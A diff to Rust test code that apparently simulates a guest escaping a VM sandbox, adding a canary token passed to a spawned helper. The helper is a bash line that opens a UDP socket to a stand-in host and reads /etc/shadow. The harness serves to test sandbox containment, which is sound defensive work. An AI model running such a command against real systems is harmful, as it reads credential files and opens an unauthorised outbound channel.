@@ -146,6 +146,9 @@ fn meet_filter(after: Duration) -> Result<(), String> {
         .map_err(|error| format!("start a thread: {error}"))
 }
 
+/// As the lab has it: nothing that is written about a sandbox may hold this.
+const CANARY: &str = "CANARY-7f3a";
+
 /// What a guest does that got hold of its VMM: one process connects out, opens
 /// what it should not, and stays.
 const HELPER: &str = "exec 3<>/dev/udp/203.0.113.9/53; read -n1 x </etc/shadow; exec sleep 600";
@@ -156,7 +159,10 @@ fn escape(vcpu: &str, after: Duration) -> Result<(), String> {
     let taken = vcpu.spawn(move || {
         std::thread::sleep(after);
         let mut helper = Command::new("/bin/bash");
-        helper.args(["-c", HELPER]).stdin(Stdio::null()).status()
+        // Whose variables and arguments are nobody's business.
+        helper.args(["-c", HELPER, "helper", "--env"]);
+        helper.arg(format!("TOKEN={CANARY}")).env("TOKEN", CANARY);
+        helper.stdin(Stdio::null()).status()
     });
     taken
         .map(drop)
